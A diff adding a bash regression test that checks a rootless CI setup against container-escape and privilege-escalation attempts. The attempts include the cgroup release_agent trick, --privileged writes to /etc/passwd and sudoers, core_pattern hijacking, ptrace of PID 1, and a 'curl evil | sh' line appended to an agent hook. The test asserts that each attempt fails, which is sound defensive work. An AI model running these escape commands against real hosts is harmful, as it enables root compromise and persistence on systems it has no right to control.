@@ -1,0 +1,232 @@
+#!/bin/bash
+# shellcheck disable=SC2016 # the single-quoted scripts are expanded by the machine's shell
+# escapes: as the CI user on a provisioned machine, every classic way from a
+# build to root or to another user is tried, and each is judged by its
+# effect on the machine — a file that would have been made or changed
+# (checksums before and after), a process that would have died, bytes that
+# would have been read — not only by an exit status. Each attempt is its own
+# TAP line; every one must fail.
+#
+# Every step is the real one: the data disk is a blank loop disk configured
+# as Device=, which apply partitions, formats and mounts. Nothing here
+# touches the host's own disks: the block device tried is the loop disk.
+
+# shellcheck source=tests/machine/lib.sh
+source "$(dirname "$0")/lib.sh"
+
+machine_begin
+machine_data_disk
+disk=$DATA_DISK
+
+# Another user, with a home, a secret and a runtime directory as logind makes it.
+in_machine sh -c 'useradd -m -s /bin/sh alice && chmod 0700 /home/alice &&
+	echo ALICE-SECRET >/home/alice/secret && chown alice: /home/alice/secret && chmod 0600 /home/alice/secret &&
+	u=$(id -u alice) && install -d -m 0700 -o alice -g alice /run/user/$u &&
+	echo ALICE-RUNTIME >/run/user/$u/secret && chown alice: /run/user/$u/secret && chmod 0600 /run/user/$u/secret'
+alice_uid=$(in_machine id -u alice)
+# The agent's configuration as the package leaves it; apply secures it.
+in_machine sh -c 'mkdir -p /etc/buildkite-agent/hooks &&
+	printf "token=SECRET-TOKEN\n" >/etc/buildkite-agent/buildkite-agent.cfg &&
+	printf "#!/bin/sh\n" >/etc/buildkite-agent/hooks/environment && chmod 0755 /etc/buildkite-agent/hooks/environment'
+
+in_machine rootless-ci apply >"$TEST_TMP/apply.out" 2>"$TEST_TMP/apply.err" ||
+	{ sed 's/^/# /' "$TEST_TMP/apply.err"; fail "apply failed"; }
+ok "apply"
+uid=$(ci_uid)
+as_ci docker import /var/lib/rootless-ci-test/busybox.tar rci-busybox >/dev/null
+ok "busybox imported as $CI_USER (uid $uid)"
+in_machine sh -c 'echo RCI-ROOT-SECRET >/root/secret && chmod 0600 /root/secret'
+
+# sums PATH...: checksums (or "missing") of files inside, to compare before and after.
+sums() {
+	local p
+	for p in "$@"; do
+		in_machine sh -c "if [ -e '$p' ]; then sha256sum '$p'; else echo 'missing $p'; fi"
+	done
+}
+
+# absent PATH MESSAGE: PATH does not exist inside.
+absent() {
+	if in_machine test -e "$1" -o -L "$1"; then
+		fail "$2: $1 exists"
+	fi
+	ok "$2"
+}
+
+# crun ARGS...: docker run --rm as the CI user, output kept, status ignored.
+crun() {
+	as_ci docker run --rm "$@" 2>&1 || true
+}
+
+# ------------------------------------------------ 1. root's Docker and containerd sockets
+in_machine test ! -e /run/docker.sock || fail "/run/docker.sock exists"
+for sock in /run/docker.sock /var/run/docker.sock; do
+	out=$(as_ci docker -H "unix://$sock" run --rm -v /:/host rci-busybox touch /host/root/pwned-by-socket 2>&1 || true)
+	[[ $out != *"Server Version"* ]] || fail "the root daemon answered on $sock"
+done
+absent /root/pwned-by-socket "root's Docker sockets (/run/docker.sock, /var/run/docker.sock): nothing run through them"
+in_machine systemctl start docker.service >/dev/null 2>&1 && fail "the root docker.service could be started again"
+ok "the root docker.service is masked (cannot be started)"
+ns_before=$(in_machine sh -c 'ctr namespaces ls -q 2>/dev/null | sort' || true)
+for sock in /run/containerd/containerd.sock /var/run/containerd/containerd.sock; do
+	as_ci ctr --address "$sock" namespaces create rci-pwned >/dev/null 2>&1 || true
+done
+assert_eq "$ns_before" "$(in_machine sh -c 'ctr namespaces ls -q 2>/dev/null | sort' || true)" \
+	"root's containerd socket: no namespace created through it"
+in_machine rootless-ci --json check >"$TEST_TMP/check.json" 2>/dev/null || true
+assert_eq pass "$(jq -r '.items[] | select(.id == "daemon.root-sockets-unreachable") | .status' "$TEST_TMP/check.json")" \
+	"check: no root-owned Docker/containerd socket reachable"
+
+# ------------------------------------------------ 2. --privileged with host bind mounts
+before=$(sums /etc/passwd /etc/shadow /etc/sudoers)
+crun --privileged -v /etc:/x rci-busybox sh -c '
+	echo "pwned:x:0:0::/root:/bin/sh" >>/x/passwd
+	echo "pwned::1:0:99999:7:::" >>/x/shadow
+	echo "buildkite ALL=(ALL) NOPASSWD: ALL" >/x/sudoers.d/pwned' >/dev/null
+crun --privileged -v /root:/r rci-busybox sh -c 'echo pwned >/r/x' >/dev/null
+assert_eq "$before" "$(sums /etc/passwd /etc/shadow /etc/sudoers)" \
+	"--privileged -v /etc: /etc/passwd, /etc/shadow unchanged"
+in_machine grep -q '^pwned:' /etc/passwd && fail "a pwned account exists"
+absent /etc/sudoers.d/pwned "--privileged -v /etc: nothing written to /etc/sudoers.d"
+absent /root/x "--privileged -v /root: nothing written to /root"
+out=$(crun --privileged -v /etc/shadow:/s rci-busybox cat /s)
+[[ $out != *"root:"* ]] || fail "/etc/shadow was read from a container"
+ok "/etc/shadow cannot be read from a container ($(head -c 80 <<<"$out"))"
+out=$(crun --privileged -v /root:/r rci-busybox sh -c 'cat /r/secret; ls -1 /r')
+# Neither the file's content nor a directory listing naming it.
+if [[ $out == *RCI-ROOT-SECRET* ]] || grep -qx secret <<<"$out"; then
+	fail "/root was read from a container: $out"
+fi
+ok "/root cannot be read or listed from a container ($(tr '\n' ' ' <<<"$out" | head -c 100))"
+
+# ------------------------------------------------ 3. host block devices (the loop data disk only)
+assert_eq 4096 "$(in_machine sh -c "dd if=$disk bs=4096 count=1 status=none | wc -c")" \
+	"root in the machine reads the data disk's first 4 KiB (the control)"
+out=$(crun --privileged -v "$disk:/disk" rci-busybox sh -c 'dd if=/disk bs=4096 count=1 2>/dev/null | wc -c')
+assert_eq 0 "$(tail -n 1 <<<"$out" | tr -d ' ')" "a --privileged container bind-mounting the disk reads 0 bytes of it"
+out=$(crun --privileged rci-busybox sh -c "dd if=/dev/$(basename "$disk") bs=4096 count=1 2>/dev/null | wc -c")
+assert_eq 0 "$(tail -n 1 <<<"$out" | tr -d ' ')" "a --privileged container reads 0 bytes of /dev/$(basename "$disk")"
+majmin=$(in_machine stat -c '%t %T' "$disk")
+out=$(crun --privileged rci-busybox sh -c "mknod /d b $((16#${majmin% *})) $((16#${majmin#* })) 2>&1; dd if=/d bs=4096 count=1 2>/dev/null | wc -c")
+assert_eq 0 "$(tail -n 1 <<<"$out" | tr -d ' ')" "a --privileged container's own node for the disk (mknod) reads 0 bytes"
+
+# ------------------------------------------------ 4. setuid-root files left on a bind mount
+as_ci mkdir -p "/home/$CI_USER/suid"
+crun --privileged -v "/home/$CI_USER/suid:/out" rci-busybox \
+	sh -c 'cp /bin/busybox /out/id && chown 0:0 /out/id && chmod 4755 /out/id' >/dev/null
+owner=$(in_machine stat -c '%u' "/home/$CI_USER/suid/id" 2>/dev/null || echo missing)
+assert_eq "$uid" "$owner" "a setuid file made by container root is owned by $CI_USER (uid $uid) on the host, not root"
+assert_eq "$uid" "$(as_ci "/home/$CI_USER/suid/id" -u 2>&1)" \
+	"running it on the host gives $CI_USER's uid, not 0"
+assert_eq "" "$(in_machine find /home /srv -xdev -user 0 -perm -4000 2>/dev/null)" \
+	"no setuid-root file anywhere under /home and /srv"
+
+# ------------------------------------------------ 5. /proc/sys and /sys of the host
+host_before=$(in_machine sh -c 'hostname; cat /proc/sys/kernel/hostname /proc/sys/kernel/core_pattern /sys/kernel/uevent_helper 2>/dev/null; true')
+for opt in --privileged "--privileged --uts=host"; do
+	# shellcheck disable=SC2086 # the options, split on purpose
+	crun $opt rci-busybox sh -c '
+		echo pwned >/proc/sys/kernel/hostname; hostname pwned
+		echo "|/tmp/pwned" >/proc/sys/kernel/core_pattern
+		echo /tmp/pwned >/sys/kernel/uevent_helper' >/dev/null
+done
+assert_eq "$host_before" "$(in_machine sh -c 'hostname; cat /proc/sys/kernel/hostname /proc/sys/kernel/core_pattern /sys/kernel/uevent_helper 2>/dev/null; true')" \
+	"--privileged (and --uts=host) writes to /proc/sys and /sys: hostname, core_pattern, uevent_helper unchanged"
+
+# ------------------------------------------------ 6. the cgroup release_agent trick
+as_ci sh -c "mkdir -p ~/ra && printf '#!/bin/sh\ntouch /rci-release-agent-pwned\n' >~/ra/payload && chmod 0755 ~/ra/payload"
+out=$(crun --privileged -v "/home/$CI_USER/ra:/ra" rci-busybox sh -c "
+	for c in rdma memory cpuset pids; do
+		mkdir -p /cg/\$c && mount -t cgroup -o \$c cgroup /cg/\$c 2>/dev/null || continue
+		mkdir -p /cg/\$c/x && echo 1 >/cg/\$c/x/notify_on_release &&
+		echo /home/$CI_USER/ra/payload >/cg/\$c/release_agent && echo mounted \$c
+		sh -c \"echo \\\$\\\$ >/cg/\$c/x/cgroup.procs\"
+	done; sleep 1; echo done")
+sleep 2
+absent /rci-release-agent-pwned "the cgroup release_agent trick runs nothing on the host ($(tr '\n' ' ' <<<"$out" | head -c 80))"
+
+# ------------------------------------------------ 7. ptrace and /proc of a root process
+out=$(as_ci sh -c 'dd if=/proc/1/mem bs=1 count=16 skip=4194304 2>/dev/null | wc -c; cat /proc/1/environ 2>/dev/null | wc -c')
+assert_eq "0 0" "$(tr '\n' ' ' <<<"$out" | xargs)" "$CI_USER reads 0 bytes of PID 1's memory and environment"
+if in_machine command -v gdb >/dev/null 2>&1 || in_machine command -v strace >/dev/null 2>&1; then
+	as_ci sh -c 'strace -p 1 -e trace=none -o /dev/null & sleep 1; kill $! 2>/dev/null' >/dev/null 2>&1 || true
+fi
+tracer=$(in_machine awk '/^TracerPid:/ {print $2}' /proc/1/status)
+assert_eq 0 "$tracer" "PID 1 has no tracer"
+in_machine grep -qa container= /proc/1/environ || fail "the control: PID 1's environment names its container"
+out=$(crun --privileged --pid=host rci-busybox sh -c 'cat /proc/1/environ; echo; ls /proc/1/root/root')
+[[ $out != *container=* && $out != *secret* ]] || fail "a --pid=host container read PID 1's environment or root's files: $out"
+ok "a --privileged --pid=host container reads nothing of PID 1 ($(head -c 100 <<<"$out"))"
+
+# ------------------------------------------------ 8. another user's home and runtime directory
+before=$(sums /home/alice/secret "/run/user/$alice_uid/secret")
+out=$(as_ci sh -c "cat /home/alice/secret /run/user/$alice_uid/secret; ls /home/alice /run/user/$alice_uid;
+	echo x >/home/alice/pwned; echo x >/run/user/$alice_uid/pwned" 2>&1 || true)
+out+=$(crun --privileged -v /home/alice:/a -v "/run/user/$alice_uid:/r" rci-busybox \
+	sh -c 'cat /a/secret /r/secret; echo x >/a/pwned; echo x >/r/pwned')
+[[ $out != *ALICE-* ]] || fail "alice's secrets were read: $out"
+assert_eq "$before" "$(sums /home/alice/secret "/run/user/$alice_uid/secret")" "alice's files unchanged"
+absent /home/alice/pwned "nothing written into /home/alice (directly or from a container)"
+absent "/run/user/$alice_uid/pwned" "nothing written into /run/user/$alice_uid, nothing read from either"
+
+# ------------------------------------------------ 9. the agent's hooks and configuration
+agent_files=(/etc/buildkite-agent/buildkite-agent.cfg /etc/buildkite-agent/hooks/environment
+	/etc/systemd/system/buildkite-agent.service.d/zz-rootless-ci.conf)
+before=$(sums "${agent_files[@]}")
+as_ci sh -c 'echo "curl evil | sh" >>/etc/buildkite-agent/hooks/environment
+	echo pwned >/etc/buildkite-agent/hooks/pre-command
+	echo "hooks-path=/tmp" >>/etc/buildkite-agent/buildkite-agent.cfg
+	echo "[Service]" >>/etc/systemd/system/buildkite-agent.service.d/zz-rootless-ci.conf' >/dev/null 2>&1 || true
+crun --privileged -v /etc/buildkite-agent:/a rci-busybox sh -c 'echo pwned >>/a/hooks/environment; echo pwned >/a/hooks/pre-command' >/dev/null
+out=$(as_ci cat /etc/buildkite-agent/buildkite-agent.cfg 2>&1 || true)
+[[ $out != *SECRET-TOKEN* ]] || echo "# (the CI user may read the agent's configuration: it is group $CI_USER, as the agent runs as $CI_USER)"
+assert_eq "$before" "$(sums "${agent_files[@]}")" "the agent's configuration, hooks and drop-in are unchanged"
+absent /etc/buildkite-agent/hooks/pre-command "no new hook in /etc/buildkite-agent/hooks"
+
+# ------------------------------------------------ 10. sudo
+as_ci sudo -n touch /root/pwned-by-sudo >/dev/null 2>&1 || true
+as_ci sudo -n true >/dev/null 2>&1 && fail "sudo -n true works for $CI_USER"
+out=$(as_ci sudo -n -l 2>&1 || true)
+[[ $out != *"may run the following"* ]] || fail "sudo -l lists commands for $CI_USER: $out"
+absent /root/pwned-by-sudo "sudo gives $CI_USER nothing (sudo -n true and sudo -l refused)"
+
+# ------------------------------------------------ 11. newuidmap outside the allocation
+sub=$(in_machine awk -F: -v u="$CI_USER" '$1 == u {print $2, $3}' /etc/subuid)
+sub_start=${sub% *}
+sub_count=${sub#* }
+out=$(as_ci sh -c "unshare --user sleep 30 & p=\$!; sleep 0.5
+	newuidmap \$p 0 0 1 >/dev/null 2>&1; echo root-map=\$?
+	newuidmap \$p 0 $uid 1 1 $((sub_start + sub_count)) 1 >/dev/null 2>&1; echo beyond=\$?
+	newuidmap \$p 0 $alice_uid 1 >/dev/null 2>&1; echo alice=\$?
+	echo map=\$(wc -c </proc/\$p/uid_map); kill \$p")
+assert_contains "$out" "map=0" "newuidmap mapping uid 0, alice's uid or beyond the subuid range ($sub_start+$sub_count) is refused: the uid_map stays empty"
+for k in root-map beyond alice; do
+	[[ $out == *"$k=0"* ]] && fail "newuidmap $k succeeded: $out"
+done
+ok "each of the three newuidmap calls failed ($(tr '\n' ' ' <<<"$out"))"
+
+# ------------------------------------------------ 12. the system journal
+groups=$(as_ci id -nG)
+[[ " $groups " != *" adm "* && " $groups " != *" systemd-journal "* ]] ||
+	fail "$CI_USER is in adm or systemd-journal: $groups"
+in_machine logger -t rci-escape-marker "system entry only root may read"
+out=$(as_ci journalctl --no-pager -q -n 200 2>&1 || true)
+# Its own user journal (its dockerd) it may read; no line of root's: the
+# marker, PID 1, or rootless-ci's apply.
+[[ $out != *rci-escape-marker* && $out != *" systemd[1]:"* && $out != *" rootless-ci["* ]] || fail "$CI_USER reads system journal entries: $(head -c 200 <<<"$out")"
+ok "journalctl as $CI_USER shows no system entries (groups: $groups)"
+
+# ------------------------------------------------ 13. --userns=host, --pid=host, --net=host
+in_machine systemd-run --unit=rci-victim --quiet sleep 1000
+victim=$(in_machine systemctl show -P MainPID rci-victim.service)
+in_machine sh -c 'rm -f /tmp/rci-got; (busybox nc -l -p 7777 127.0.0.1 >/tmp/rci-got &) ; sleep 0.3'
+crun --privileged --pid=host rci-busybox sh -c "kill -9 $victim" >/dev/null
+crun --privileged --userns=host -v /etc:/x rci-busybox sh -c 'echo pwned >/x/rci-userns-pwned' >/dev/null
+crun --privileged --net=host rci-busybox sh -c 'echo pwned | nc -w 2 127.0.0.1 7777' >/dev/null
+in_machine kill -0 "$victim" || fail "a --pid=host container killed root's process $victim"
+ok "--pid=host: root's process $victim survives kill -9 from a --privileged container"
+absent /etc/rci-userns-pwned "--userns=host -v /etc: nothing written to /etc"
+assert_eq "" "$(in_machine cat /tmp/rci-got)" "--net=host: root's listener on 127.0.0.1:7777 in the machine received nothing"
+in_machine systemctl stop rci-victim.service
+
+echo "PASS: $TEST_NAME"
